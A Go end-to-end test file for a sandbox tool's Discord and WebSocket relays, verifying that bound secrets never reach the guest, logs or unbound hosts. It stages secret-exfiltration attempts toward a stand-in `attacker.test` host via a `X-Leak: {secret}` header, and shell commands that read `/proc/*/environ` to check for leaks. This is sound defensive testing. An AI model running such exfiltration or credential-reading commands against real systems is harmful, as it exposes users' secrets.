package e2e

import (
	"context"
	"crypto/tls"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/coder/websocket"

	"github.com/cagebox/cagebox/api"
	"github.com/cagebox/cagebox/internal/relay/discordtest"
	"github.com/cagebox/cagebox/internal/testpki"
)

// relayServer records every POST as a line: path, the event type header,
// the Authorization header, and the body.
const relayServer = `
import http.server, sys, json
class H(http.server.BaseHTTPRequestHandler):
    def log_message(self, *a): pass
    def do_POST(self):
        n = int(self.headers.get("Content-Length", "0"))
        body = self.rfile.read(n).decode()
        rec = {"path": self.path, "type": self.headers.get("X-Discord-Event"), "relay": self.headers.get("X-Cagebox-Relay"),
               "msg": self.headers.get("X-Cagebox-Relay-Message"), "auth": self.headers.get("Authorization"), "raw": body,
               "body": json.loads(body) if body.startswith("{") else None}
        with open("/tmp/relay.log", "a") as f: f.write(json.dumps(rec) + "\n")
        self.send_response(204); self.end_headers()
http.server.ThreadingHTTPServer(("0.0.0.0", int(sys.argv[1])), H).serve_forever()
`

const relayBotToken = "MTE5ODc2NTQzMjEw.e2e-bot.Zk9yVHJ1c3Rfbm9fb25l"

// discordGatewayHost is the stand-in gateway's name: a bot token secret
// must be bound to it, as a real one to *.discord.gg.
const discordGatewayHost = "gateway.discord.test"

// startGateway starts a stand-in Discord gateway over TLS on loopback and
// returns it with the daemon flags that reach it (its URL, a --resolve of
// its name, its CA).
func startGateway(t *testing.T) (*discordtest.Gateway, []string) {
	t.Helper()
	pki, err := testpki.New(time.Hour, discordGatewayHost)
	if err != nil {
		t.Fatal(err)
	}
	g, err := discordtest.StartTLS(pki.Leaf, discordGatewayHost)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(g.Close)
	caFile := filepath.Join(t.TempDir(), "gateway-ca.pem")
	if err := os.WriteFile(caFile, pki.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	_, port, _ := net.SplitHostPort(g.Addr())
	return g, []string{"--relay-discord-url", g.URL, "--upstream-ca", caFile, "--resolve", discordGatewayHost + ":" + port + "=" + g.Addr()}
}

type relayRec struct {
	Msg   string `json:"msg"`
	Raw   string `json:"raw"`
	Path  string `json:"path"`
	Type  string `json:"type"`
	Relay string `json:"relay"`
	Body  struct {
		T string          `json:"t"`
		S int64           `json:"s"`
		D json.RawMessage `json:"d"`
	} `json:"body"`
}

// TestRelayDiscord: the daemon holds a Discord Gateway connection (to a
// stand-in gateway) for a sandbox's bot: dispatches reach the guest's
// server in order; with the sandbox idle-paused the connection drops, the
// relay resumes its session from its last sequence number, and the
// events that follow wake the sandbox and reach it, none twice; the
// token never enters the guest, the events or `relay ls`.
func TestRelayDiscord(t *testing.T) {
	g, flags := startGateway(t)
	ie := newIngressEnv(t, flags...)
	ctx := context.Background()
	c := ie.client()
	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "DISCORD_BOT", Value: relayBotToken, Hosts: []string{"discord.com"}}); err != nil {
		t.Fatal(err)
	}
	// Bound to discord.com only, the token may not go to the gateway.
	if r := ie.cli("", "create", "--runtime", e2eRuntime()); r.code == 0 {
		sb := strings.TrimSpace(r.stdout)
		if r := ie.cli("", "relay", "add", sb, "discord", "--token-secret", "DISCORD_BOT", "--port", "8080"); r.code == 0 || !strings.Contains(r.stderr, "--host "+discordGatewayHost) {
			t.Errorf("relay add of a token not bound to the gateway: %+v", r)
		}
		ie.cli("", "rm", sb)
	}
	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "DISCORD_BOT", Value: relayBotToken, Hosts: []string{"discord.com", discordGatewayHost}}); err != nil {
		t.Fatal(err)
	}
	r := ie.cli("", "create", "--runtime", e2eRuntime(), "--idle-timeout", "4s", "--idle-action", "pause")
	if r.code != 0 {
		t.Fatalf("create: %+v", r)
	}
	id := strings.TrimSpace(r.stdout)
	if err := c.WriteFile(ctx, id, "/tmp/relay.py", 0o644, strings.NewReader(relayServer)); err != nil {
		t.Fatal(err)
	}
	if r := ie.cli("", "exec", id, "--", "sh", "-c", "setsid python3 /tmp/relay.py 8080 >/tmp/relay.out 2>&1 </dev/null &"); r.code != 0 {
		t.Fatalf("start the guest's server: %+v", r)
	}
	if r := ie.cli("", "relay", "add", id, "discord", "--token-secret", "NOPE", "--port", "8080"); r.code == 0 || !strings.Contains(r.stderr, "NOPE") {
		t.Fatalf("relay add with an unknown secret: %+v", r)
	}
	if r := ie.cli("", "relay", "add", id, "discord", "--token-secret", "DISCORD_BOT", "--port", "8080", "--path", "/discord", "--intents", "513"); r.code != 0 {
		t.Fatalf("relay add: %+v", r)
	}
	waitFor := func(what string, ok func() bool) {
		t.Helper()
		deadline := time.Now().Add(60 * time.Second)
		for !ok() {
			if time.Now().After(deadline) {
				t.Fatalf("timed out waiting for %s", what)
			}
			time.Sleep(300 * time.Millisecond)
		}
	}
	waitFor("the relay to identify", g.Connected)
	if ids := g.Identifies(); len(ids) != 1 || ids[0].Token != relayBotToken || ids[0].Intents != 513 {
		t.Fatalf("identify: %d, token right %v", len(ids), len(ids) == 1 && ids[0].Token == relayBotToken)
	}
	guestLog := func() []relayRec {
		r := ie.cli("", "exec", id, "--", "sh", "-c", "cat /tmp/relay.log 2>/dev/null; true")
		var out []relayRec
		for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			var x relayRec
			if json.Unmarshal([]byte(l), &x) == nil {
				out = append(out, x)
			}
		}
		return out
	}
	contents := func(l []relayRec) []string {
		var out []string
		for _, x := range l {
			if x.Type == "MESSAGE_CREATE" {
				var d struct{ Content string }
				_ = json.Unmarshal(x.Body.D, &d)
				out = append(out, d.Content)
			}
		}
		return out
	}
	for i := 1; i <= 3; i++ {
		if _, err := g.Dispatch("MESSAGE_CREATE", map[string]string{"content": fmt.Sprintf("m%d", i)}); err != nil {
			t.Fatal(err)
		}
	}
	waitFor("m1-m3 in the guest", func() bool { return len(contents(guestLog())) == 3 })
	l := guestLog()
	if got := strings.Join(contents(l), ","); got != "m1,m2,m3" {
		t.Fatalf("the guest got %s, want m1,m2,m3 in order", got)
	}
	if l[0].Type != "READY" || l[0].Path != "/discord" || l[0].Relay != "discord" || l[0].Body.S != 1 {
		t.Errorf("the first delivery: %+v", l[0])
	}
	sess, seq := g.Session(), g.Seq()

	// Idle pause; the gateway drops the connection (an outage of a few
	// seconds), two events happen meanwhile; the relay resumes.
	waitFor("the idle pause", func() bool {
		sb, err := c.Get(ctx, id)
		return err == nil && sb.Status == "paused"
	})
	g.Refuse(true)
	g.Drop()
	g.Dispatch("MESSAGE_CREATE", map[string]string{"content": "m4"})
	g.Dispatch("MESSAGE_CREATE", map[string]string{"content": "m5"})
	time.Sleep(2 * time.Second)
	if sb, _ := c.Get(ctx, id); sb == nil || sb.Status != "paused" {
		t.Errorf("the sandbox woke before the relay had anything for it")
	}
	g.Refuse(false)
	waitFor("the resume", func() bool { return len(g.Resumes()) == 1 && g.Connected() })
	rs := g.Resumes()[0]
	if rs.SessionID != sess || rs.Seq != seq || rs.Token != relayBotToken {
		t.Fatalf("resume: session %q seq %d (token right %v), want %q %d", rs.SessionID, rs.Seq, rs.Token == relayBotToken, sess, seq)
	}
	g.Dispatch("MESSAGE_CREATE", map[string]string{"content": "m6"})
	waitFor("m4-m6 in the woken guest", func() bool { return len(contents(guestLog())) >= 6 })
	l = guestLog()
	if got := strings.Join(contents(l), ","); got != "m1,m2,m3,m4,m5,m6" {
		t.Fatalf("the guest got %s, want m1..m6 once each, in order", got)
	}
	last := int64(0)
	for _, x := range l {
		if x.Body.S <= last {
			t.Errorf("delivery out of order or twice: seq %d after %d", x.Body.S, last)
		}
		last = x.Body.S
	}
	if len(g.Identifies()) != 1 {
		t.Errorf("the relay identified again instead of resuming")
	}
	sb, err := c.Get(ctx, id)
	if err != nil || sb.LastWake == nil {
		t.Errorf("inspect after the wake: %+v %v", sb, err)
	}

	// relay ls: connected, resumed once; the token nowhere.
	r = ie.cli("", "relay", "ls", id, "--json")
	var rl []api.Relay
	if r.code != 0 || json.Unmarshal([]byte(r.stdout), &rl) != nil || len(rl) != 1 {
		t.Fatalf("relay ls: %+v", r)
	}
	if st := rl[0].State; !st.Connected || st.Resumes != 1 || st.Reconnects < 1 || st.SessionID != sess || rl[0].TokenSecret != "DISCORD_BOT" {
		t.Errorf("relay ls: %+v", rl[0])
	}
	if strings.Contains(r.stdout, relayBotToken) || strings.Contains(ie.cli("", "relay", "ls", id).stdout, relayBotToken) {
		t.Errorf("relay ls shows the token")
	}
	evs, err := c.Events(ctx, id, 0)
	if err != nil {
		t.Fatal(err)
	}
	kinds := map[api.EventKind]int{}
	for _, e := range evs {
		kinds[e.Kind]++
		b, _ := json.Marshal(e)
		if strings.Contains(string(b), relayBotToken) {
			t.Errorf("event %s carries the token", e.Kind)
		}
	}
	if kinds[api.EventRelayConnected] != 2 || kinds[api.EventRelayDisconnected] < 1 {
		t.Errorf("relay events: %v", kinds)
	}
	// The token is nowhere in the guest: its processes' environments, what
	// it received, its files.
	if r := ie.cli("", "exec", id, "--", "sh", "-c", "cat /proc/*/environ /tmp/relay.log 2>/dev/null | grep -c "+relayBotToken+"; grep -rl "+relayBotToken+" /tmp /etc /root 2>/dev/null | wc -l"); strings.Fields(r.stdout)[0] != "0" || strings.Fields(r.stdout)[1] != "0" {
		t.Errorf("the bot token reached the guest: %+v", r)
	}
	if r := ie.cli("", "webhook", "ls", id); r.code != 0 || strings.Contains(r.stdout, "relay") {
		t.Errorf("webhook ls shows the relay's row: %+v", r)
	}

	// rm: the connection closes and is not reopened.
	if r := ie.cli("", "relay", "rm", id, "discord"); r.code != 0 {
		t.Fatalf("relay rm: %+v", r)
	}
	waitFor("the relay's connection to close", func() bool { return !g.Connected() })
	n := g.Conns()
	time.Sleep(2 * time.Second)
	if g.Conns() != n {
		t.Errorf("the removed relay reconnected")
	}
	if r := ie.cli("", "relay", "rm", id, "discord"); r.code == 0 {
		t.Errorf("removing a removed relay: %+v", r)
	}

	// Destroying the sandbox stops its relays.
	if r := ie.cli("", "relay", "add", id, "discord", "--name", "again", "--token-secret", "DISCORD_BOT", "--port", "8080"); r.code != 0 {
		t.Fatalf("relay add: %+v", r)
	}
	waitFor("the second relay to identify", g.Connected)
	if r := ie.cli("", "rm", id); r.code != 0 {
		t.Fatalf("rm: %+v", r)
	}
	waitFor("the destroyed sandbox's relay to close", func() bool { return !g.Connected() })
	n = g.Conns()
	time.Sleep(2 * time.Second)
	if g.Conns() != n {
		t.Errorf("a destroyed sandbox's relay reconnected")
	}
}

// TestRelayWebSocket: a generic WebSocket relay connects (over TLS, to a
// host its secret is bound to) with the vault secret in its handshake
// header, delivers each message to the guest in order, reconnects after a
// drop, and the secret never enters the guest or `relay ls`. An attacker's
// relay — a URL whose host the secret is not bound to, or ws:// — is
// refused at `relay add` saying what to do, and its server never receives
// the value; a secret re-bound elsewhere later stops the relay at its next
// dial, the value never sent again.
func TestRelayWebSocket(t *testing.T) {
	const wsSecret = "wss-e2e-secret-5f1c9a7e2b"
	const leakSecret = "ghp_e2eLeakTargetMustNeverLeaveTheVault01"
	pki, err := testpki.New(time.Hour, "relay.test", "attacker.test")
	if err != nil {
		t.Fatal(err)
	}
	tcp, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	ln := tls.NewListener(tcp, &tls.Config{Certificates: []tls.Certificate{pki.Leaf}})
	port := tcp.Addr().(*net.TCPAddr).Port
	var mu sync.Mutex
	var auths, seen []string
	conns := 0
	drop := make(chan struct{})
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		mu.Lock()
		auths = append(auths, r.Header.Get("Authorization"))
		for k, v := range r.Header {
			seen = append(seen, r.Host+" "+k+": "+strings.Join(v, ","))
		}
		conns++
		n := conns
		mu.Unlock()
		c, err := websocket.Accept(w, r, nil)
		if err != nil {
			return
		}
		defer c.CloseNow()
		if n == 1 {
			for i := 1; i <= 2; i++ {
				_ = c.Write(r.Context(), websocket.MessageText, []byte(fmt.Sprintf(`{"n":%d}`, i)))
			}
			time.Sleep(300 * time.Millisecond)
			return // a drop
		}
		_ = c.Write(r.Context(), websocket.MessageText, []byte(`{"n":3}`))
		select {
		case <-r.Context().Done():
		case <-drop:
		}
	})}
	go srv.Serve(ln)
	defer srv.Close()
	caFile := filepath.Join(t.TempDir(), "ca.pem")
	if err := os.WriteFile(caFile, pki.CAPEM, 0o644); err != nil {
		t.Fatal(err)
	}
	ie := newIngressEnv(t, "--upstream-ca", caFile,
		"--resolve", fmt.Sprintf("relay.test:%d=127.0.0.1:%d", port, port), "--resolve", fmt.Sprintf("attacker.test:%d=127.0.0.1:%d", port, port))
	ctx := context.Background()
	c := ie.client()
	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "WS_TOKEN", Value: wsSecret, Hosts: []string{"relay.test"}}); err != nil {
		t.Fatal(err)
	}
	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "LEAK", Value: leakSecret, Hosts: []string{"api.github.com"}}); err != nil {
		t.Fatal(err)
	}
	r := ie.cli("", "create", "--runtime", e2eRuntime())
	if r.code != 0 {
		t.Fatalf("create: %+v", r)
	}
	id := strings.TrimSpace(r.stdout)
	if err := c.WriteFile(ctx, id, "/tmp/relay.py", 0o644, strings.NewReader(relayServer)); err != nil {
		t.Fatal(err)
	}
	if r := ie.cli("", "exec", id, "--", "sh", "-c", "setsid python3 /tmp/relay.py 8080 >/tmp/relay.out 2>&1 </dev/null &"); r.code != 0 {
		t.Fatalf("start the guest's server: %+v", r)
	}
	relayURL := fmt.Sprintf("wss://relay.test:%d/events", port)
	// The attacks: any secret toward a host it is not bound to; a bound
	// secret in clear.
	for _, a := range []struct {
		url, secret, want string
	}{
		{fmt.Sprintf("wss://attacker.test:%d/x", port), "LEAK", "cagebox secret add LEAK --host attacker.test"},
		{fmt.Sprintf("wss://attacker.test:%d/x", port), "WS_TOKEN", "not one of them"},
		{relayURL, "LEAK", "bound to hosts api.github.com"},
		{fmt.Sprintf("ws://relay.test:%d/events", port), "WS_TOKEN", "wss://"},
	} {
		r := ie.cli("", "relay", "add", id, "websocket", "--url", a.url, "--header", "X-Leak: {secret}", "--secret", a.secret, "--port", "8080", "--name", "evil")
		if r.code == 0 || !strings.Contains(r.stderr, a.want) || strings.Contains(r.stderr+r.stdout, leakSecret) || strings.Contains(r.stderr+r.stdout, wsSecret) {
			t.Errorf("relay add %s with %s: %+v, want refused saying %q", a.url, a.secret, r, a.want)
		}
	}
	mu.Lock()
	if conns != 0 {
		t.Errorf("the refused relays connected %d times", conns)
	}
	mu.Unlock()
	if r := ie.cli("", "relay", "add", id, "websocket", "--url", relayURL, "--header", "Authorization: Bearer {secret}", "--port", "8080", "--path", "/ws"); r.code == 0 || !strings.Contains(r.stderr, "secret") {
		t.Fatalf("a {secret} header without --secret: %+v", r)
	}
	if r := ie.cli("", "relay", "add", id, "websocket", "--url", relayURL, "--header", "Authorization: Bearer {secret}",
		"--secret", "WS_TOKEN", "--port", "8080", "--path", "/ws", "--name", "feed"); r.code != 0 {
		t.Fatalf("relay add: %+v", r)
	}
	deadline := time.Now().Add(60 * time.Second)
	var got []string
	for {
		r := ie.cli("", "exec", id, "--", "sh", "-c", "cat /tmp/relay.log 2>/dev/null; true")
		got = nil
		for _, l := range strings.Split(strings.TrimSpace(r.stdout), "\n") {
			var x relayRec
			if json.Unmarshal([]byte(l), &x) == nil {
				got = append(got, x.Path+" "+x.Relay+" "+x.Msg+" "+x.Raw)
			}
		}
		if len(got) >= 3 || time.Now().After(deadline) {
			break
		}
		time.Sleep(300 * time.Millisecond)
	}
	want := []string{`/ws feed text {"n":1}`, `/ws feed text {"n":2}`, `/ws feed text {"n":3}`}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("the guest got %q, want %q", got, want)
	}
	mu.Lock()
	for _, a := range auths {
		if a != "Bearer "+wsSecret {
			t.Errorf("handshake Authorization %q", a)
		}
	}
	if conns < 2 {
		t.Errorf("%d connections: the relay did not reconnect after the drop", conns)
	}
	mu.Unlock()
	r = ie.cli("", "relay", "ls", id, "--json")
	if r.code != 0 || strings.Contains(r.stdout, wsSecret) || !strings.Contains(r.stdout, "{secret}") {
		t.Errorf("relay ls: %+v", r)
	}
	if r := ie.cli("", "exec", id, "--", "sh", "-c", "cat /proc/*/environ /tmp/relay.log 2>/dev/null | grep -c "+wsSecret+"; true"); strings.TrimSpace(r.stdout) != "0" {
		t.Errorf("the secret reached the guest: %+v", r)
	}
	// Re-bound elsewhere: the next dial refuses to send it, and the relay
	// stops saying why.
	if _, err := c.PutSecret(ctx, &api.PutSecretRequest{Name: "WS_TOKEN", Value: wsSecret, Hosts: []string{"elsewhere.test"}}); err != nil {
		t.Fatal(err)
	}
	mu.Lock()
	before := conns
	mu.Unlock()
	close(drop)
	waitFor(t, 60*time.Second, "the relay to fail", func() bool {
		r := ie.cli("", "relay", "ls", id, "--json")
		return strings.Contains(r.stdout, "elsewhere.test")
	})
	mu.Lock()
	if conns != before {
		t.Errorf("the relay dialled again (%d connections, %d before) with its secret bound elsewhere", conns, before)
	}
	for _, h := range seen {
		if strings.Contains(h, leakSecret) {
			t.Errorf("the attacker's server received the secret: %s", h)
		}
	}
	mu.Unlock()
	evs, err := c.Events(ctx, id, 0)
	if err == nil {
		b, _ := json.Marshal(evs)
		if strings.Contains(string(b), wsSecret) || strings.Contains(string(b), leakSecret) {
			t.Error("a secret value is in the events")
		}
	}
	if r := ie.cli("", "relay", "rm", id, "feed"); r.code != 0 {
		t.Fatalf("relay rm: %+v", r)
	}
}
